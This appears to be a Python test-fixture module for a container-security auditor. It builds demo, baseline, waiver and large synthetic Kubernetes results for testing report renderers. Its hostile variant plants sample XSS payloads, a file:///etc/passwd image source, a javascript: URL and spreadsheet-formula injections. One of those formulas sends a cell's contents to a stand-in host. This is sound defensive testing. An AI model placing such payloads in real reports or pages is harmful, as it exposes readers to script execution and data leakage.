"""Results documents for the report tests: the golden demo, and a hostile variant.

The hostile variant keeps the demo's shape but puts markup, file URLs and spreadsheet formulas in
names, titles and evidence, adds a waived control and finding (as the waivers helper writes
them), a status no renderer knows yet, a Kubernetes manifest subject with file and line, and
extra fields, so every renderer is checked against what later results may hold.
"""

from __future__ import annotations

import copy
import json
import os

GOLDEN = os.path.join(os.path.dirname(os.path.abspath(__file__)), "golden", "demo-results.json")
SCRIPT = "<script>alert('x')</script>"
IMG = "<img src=file:///etc/passwd>"
FORMULA = '=HYPERLINK("http://evil.invalid/?q="&A1,"click")'
URL = "javascript:alert(1)"


def demo_results() -> dict:
    with open(GOLDEN, encoding="utf-8") as fh:
        return json.load(fh)


def hostile_results(schema_valid: bool = False) -> dict:
    """The hostile variant; ``schema_valid`` leaves out what today's schema refuses (unknown status, framework)."""
    doc = copy.deepcopy(demo_results())
    by_id = {c["id"]: c for c in doc["controls"]}
    c55 = by_id["5.5"]
    c55["title"] = f"Privileged {SCRIPT} containers"
    c55["remediation"] = f"Run {IMG} then {URL}"
    bad = next(f for f in c55["findings"] if f["status"] == "fail")
    bad["subject"]["name"] = FORMULA
    bad["observed"] = IMG
    bad["where"] = SCRIPT
    c55["references"].append(URL)
    # a Kubernetes manifest finding: subjects may carry file and line
    c56 = by_id["5.6"]
    manifest = next(f for f in c56["findings"] if f["status"] == "fail")
    manifest["subject"].update({"type": "pod", "name": "shop/web", "file": "deploy/shop.yaml", "line": 12})
    # waived (as the waivers helper writes it): control status, finding flag and waiver object
    c54 = by_id["5.4"]
    c54["status"] = "waived"
    for f in c54["findings"]:
        if f["status"] == "fail":
            f["waived"] = True
            f["waiver"] = {"index": 1, "control": "5.4", "reason": f"accepted {SCRIPT}", "owner": "=1+1",
                          "expires": "2099-01-01"}
    doc["summary"]["counts"]["waived"] = 1
    by_id["5.7"]["ticket"] = {"id": IMG}
    doc["packs"][0]["title"] = f"CIS {SCRIPT} Docker"
    doc["evidence"]["host"] = f"host-{IMG}"
    if not schema_valid:
        # a status and a framework shape nobody knows yet must render, not crash
        by_id["5.7"]["status"] = "quarantined"
        doc["frameworks"] = [{"id": "nist-800-190", "title": f"NIST {SCRIPT}", "score": 50.0}]
        doc["summary"]["counts"]["quarantined"] = 1
    return doc


REQ_TITLE = f"Images are {SCRIPT} scanned"
WAIVER_REASON = f"accepted risk {IMG} {SCRIPT}"


def baseline_results() -> dict:
    """The demo results as an earlier run: 5.5 passed for every subject, and the score was higher."""
    old = demo_results()
    c55 = next(c for c in old["controls"] if c["id"] == "5.5")
    c55["status"] = "pass"
    for f in c55["findings"]:
        f["status"] = "pass"
    c55["subjects"]["pass"] += c55["subjects"]["fail"]
    c55["subjects"]["fail"] = 0
    old["summary"]["score"] = 35.2
    old["generated_at"] = "2026-11-19T00:00:00Z"
    return old


def full_results(folder: str) -> dict:
    """The demo results as `audit --waivers W --baseline OLD` writes them, with every built-in framework.

    Waivers: one applied (5.10, a hostile reason), one expired (2.8), one unused (3.18); a framework
    requirement title holds markup. ``folder`` receives the waivers file.
    """
    import datetime as dt

    from auditor.judging.framework_scores import framework_results
    from auditor.judging.waivers import apply_waivers, load_waivers
    from auditor.packs.frameworks import resolve_frameworks
    from auditor.results.diff import diff_results

    doc = demo_results()
    doc["frameworks"] = framework_results(doc["controls"], resolve_frameworks(None))
    doc["frameworks"][0]["requirements"][0]["title"] = REQ_TITLE
    path = os.path.join(folder, "waivers.yaml")
    with open(path, "w", encoding="utf-8") as fh:
        fh.write("waivers:\n"
                 f"  - {{control: 'cis-docker-1.6.0:5.10', reason: {json.dumps(WAIVER_REASON)},"
                 " owner: alice@example.com, ticket: NET-1234, expires: 2027-12-31}\n"
                 "  - {control: '2.8', reason: old waiver, owner: bob, expires: 2024-01-31}\n"
                 "  - {control: '3.18', subject: {path: /nowhere}, reason: config management, owner: platform-team,"
                 " expires: 2027-09-30}\n")
    doc = apply_waivers(doc, load_waivers(path), dt.date(2026, 11, 26))
    doc["baseline"] = {"source": "old.results.json", "diff": diff_results(baseline_results(), doc)}
    return doc


def write_large_dump(path: str, namespaces: int = 40, apps: int = 15) -> int:
    """A `kubectl get -A -o json` List large enough that many controls fail more subjects than a
    report lists: per namespace, ``apps`` Deployments (two containers, a third of them privileged
    or root, none with resource limits) with their ReplicaSet, two Pods, Service and
    ServiceAccount. Deterministic. Returns the number of objects."""
    items: list[dict] = []
    for n in range(namespaces):
        ns = f"team-{n:02d}"
        items.append({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": ns}})
        for a in range(apps):
            name = f"app{a:02d}"
            bad = (n + a) % 3 == 0
            containers = [{"name": c, "image": f"registry.example/{name}-{c}:1.{a}",
                           "securityContext": ({"privileged": True, "runAsUser": 0} if bad else
                                               {"runAsNonRoot": True, "allowPrivilegeEscalation": False,
                                                "readOnlyRootFilesystem": True, "capabilities": {"drop": ["ALL"]},
                                                "seccompProfile": {"type": "RuntimeDefault"}})}
                          for c in ("main", "sidecar")]
            template = {"metadata": {"labels": {"app": name}}, "spec": {"containers": containers}}
            meta = {"namespace": ns, "labels": {"app": name}}
            items.append({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": name, **meta},
                          "spec": {"replicas": 2, "selector": {"matchLabels": {"app": name}}, "template": template}})
            rs = f"{name}-5d9c8"
            owner = [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": rs, "controller": True, "uid": "u"}]
            items.append({"apiVersion": "apps/v1", "kind": "ReplicaSet", "metadata": {
                "name": rs, **meta, "ownerReferences": [{"apiVersion": "apps/v1", "kind": "Deployment",
                                                          "name": name, "controller": True, "uid": "d"}]},
                "spec": {"replicas": 2, "template": template}})
            for p in range(2):
                items.append({"apiVersion": "v1", "kind": "Pod", "metadata": {
                    "name": f"{rs}-{p}", **meta, "ownerReferences": owner}, "spec": template["spec"]})
            items.append({"apiVersion": "v1", "kind": "Service", "metadata": {"name": name, "namespace": ns},
                          "spec": {"selector": {"app": name}, "ports": [{"port": 80}]}})
            items.append({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": name, "namespace": ns}})
    with open(path, "w", encoding="utf-8") as fh:
        json.dump({"apiVersion": "v1", "kind": "List", "items": items}, fh)
    return len(items)


def large_run(folder: str) -> dict[str, str]:
    """`auditor audit --manifests` of :func:`write_large_dump` with the default reports (HTML and PDF),
    through the API; the paths written, by extension."""
    from auditor import api

    dump = os.path.join(folder, "cluster.json")
    write_large_dump(dump)
    outcome = api.audit(api.Sources(targets=["manifests"], manifests=[dump]),
                        outputs=api.Outputs(output_dir=os.path.join(folder, "reports")))
    paths = {"results": outcome.written.results}
    for path in outcome.written.reports:
        paths[os.path.splitext(path)[1][1:]] = path
    return paths
